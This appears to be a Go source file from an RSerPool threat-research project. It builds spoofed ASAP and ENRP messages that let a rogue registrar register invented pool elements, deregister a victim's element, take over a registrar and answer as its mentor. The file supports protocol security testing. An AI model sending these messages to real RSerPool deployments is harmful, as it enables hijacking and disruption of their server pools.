// SPDX-License-Identifier: Apache-2.0

package attackers

import (
	"net/netip"

	"github.com/rspthreat/rspthreat/reference/wire"
)

// Victim is what the messages of an attacker are about.
type Victim struct {
	Pool    string
	PE      wire.PoolElement // as it is registered, or as the attacker wants it
	Server  wire.ServerID    // the registrar under attack; 0 when it is not known
	Element wire.PEID        // an element that the attacker invents
}

// invented is an element of the attacker's own making.
func (v *Victim) invented(at netip.Addr) wire.PoolElement {
	pe := v.PE
	pe.ID = v.Element
	pe.User.Addrs = []netip.Addr{at}
	return pe
}

// ASAP returns one of each of the 14 ASAP messages, with the attacker at at.
func (v *Victim) ASAP(at netip.Addr) []wire.Message {
	handle, causes := wire.PoolHandle(v.Pool), []wire.Cause{{Code: wire.CauseUnspecified}}
	pe := v.invented(at)
	return []wire.Message{
		&wire.Registration{PoolHandle: handle, Element: pe},
		&wire.Deregistration{PoolHandle: handle, PEID: v.PE.ID},
		&wire.RegistrationResponse{PoolHandle: handle, PEID: v.PE.ID},
		&wire.DeregistrationResponse{PoolHandle: handle, PEID: v.PE.ID},
		&wire.HandleResolution{PoolHandle: handle},
		&wire.HandleResolutionResponse{PoolHandle: handle, Policy: pe.Policy, HasPolicy: true, Elements: []wire.PoolElement{pe}},
		&wire.EndpointKeepAlive{NewHome: true, Server: RogueServer, PoolHandle: handle},
		&wire.EndpointKeepAliveAck{PoolHandle: handle, PEID: v.PE.ID},
		&wire.EndpointUnreachable{PoolHandle: handle, PEID: v.PE.ID},
		&wire.ServerAnnounce{Server: RogueServer},
		&wire.Cookie{Value: []byte("rspthreat-cookie")},
		&wire.CookieEcho{Value: []byte("rspthreat-cookie")},
		&wire.BusinessCard{PoolHandle: handle, Elements: []wire.PoolElement{pe}},
		&wire.ASAPError{Causes: causes},
	}
}

// ENRP returns one of each of the 10 ENRP messages, from a rogue registrar at at.
func (v *Victim) ENRP(at netip.Addr) []wire.Message {
	updates := v.Updates(at)
	return append([]wire.Message{
		v.RoguePresence(at),
		&wire.HandleTableRequest{Sender: RogueServer, Receiver: v.Server},
		&wire.ListRequest{Sender: RogueServer, Receiver: v.Server},
		&wire.ListResponse{Sender: RogueServer, Receiver: v.Server, Servers: []wire.ServerInformation{rogueInformation(at)}},
		&wire.InitTakeoverAck{Sender: RogueServer, Receiver: v.Server, Target: v.target()},
		&wire.ENRPError{Sender: RogueServer, Receiver: v.Server, Causes: []wire.Cause{{Code: wire.CauseUnspecified}}},
	}, updates[:4]...)
}

// Updates returns the messages with which a rogue registrar could change the handlespace:
// an element added, a handle table, two steps of a takeover, and an element removed.
func (v *Victim) Updates(at netip.Addr) []wire.Message {
	handle, pe := wire.PoolHandle(v.Pool), v.invented(at)
	pe.Home = RogueServer
	pe.ASAP, pe.HasASAP = wire.Transport{Kind: wire.TransportSCTP, Port: roguePort, Addrs: []netip.Addr{at}}, true
	gone := v.PE
	gone.ASAP, gone.HasASAP = pe.ASAP, true
	if gone.Home == 0 { // it registered with the registrar under attack; rsplib takes no update without a home
		gone.Home = v.target()
	}
	return []wire.Message{
		&wire.HandleUpdate{Sender: RogueServer, Action: wire.AddPE, PoolHandle: handle, Element: pe},
		&wire.HandleTableResponse{Sender: RogueServer, Receiver: v.Server, Pools: []wire.PoolEntry{{PoolHandle: handle, Elements: []wire.PoolElement{pe}}}},
		&wire.InitTakeover{Sender: RogueServer, Target: v.target()},
		&wire.TakeoverServer{Sender: RogueServer, Target: v.target()},
		&wire.HandleUpdate{Sender: RogueServer, Action: wire.DelPE, PoolHandle: handle, Element: gone},
	}
}

// Remove is the update of the rogue registrar that takes the victim's element out.
func (v *Victim) Remove(at netip.Addr) wire.Message { return v.Updates(at)[4] }

// RoguePresence introduces the rogue registrar and asks for an answer.
func (v *Victim) RoguePresence(at netip.Addr) *wire.Presence {
	return &wire.Presence{
		Sender: RogueServer, ReplyRequired: true, Checksum: emptyChecksum, HasChecksum: true,
		Server: rogueInformation(at), HasServer: true,
	}
}

// emptyChecksum is the PE checksum of a registrar without elements (RFC 5353 section 3.6.2).
const emptyChecksum = 0xffff

// roguePort is where the rogue registrar claims to be; nothing listens there.
const roguePort = 9901

func rogueInformation(at netip.Addr) wire.ServerInformation {
	return wire.ServerInformation{ID: RogueServer, Transport: wire.Transport{Kind: wire.TransportSCTP, Port: roguePort, Addrs: []netip.Addr{at}}}
}

// target is the registrar to be taken over: the one under attack, as far as it is known.
func (v *Victim) target() wire.ServerID {
	switch {
	case v.Server != 0:
		return v.Server
	case v.PE.Home != 0:
		return v.PE.Home
	default:
		return guessedServer
	}
}

// guessedServer stands for a registrar whose ID the attacker could not learn: zero is none
// that a message could name (RFC 5353 section 2.7).
const guessedServer = wire.ServerID(1)

// Mentor is what a rogue registrar at at answers to a registrar that takes it for its mentor
// or its peer: a group of its own, and a handle table with its element; nil when there is
// nothing to answer.
func (v *Victim) Mentor(m wire.Message, at netip.Addr) wire.Message {
	switch m := m.(type) {
	case *wire.Presence:
		if m.ReplyRequired {
			return v.RoguePresence(at)
		}
	case *wire.ListRequest:
		return &wire.ListResponse{Sender: RogueServer, Receiver: m.Sender, Servers: []wire.ServerInformation{rogueInformation(at)}}
	case *wire.HandleTableRequest:
		table, ok := v.Updates(at)[1].(*wire.HandleTableResponse)
		if ok {
			table.Receiver = m.Sender
			return table
		}
	}
	return nil
}
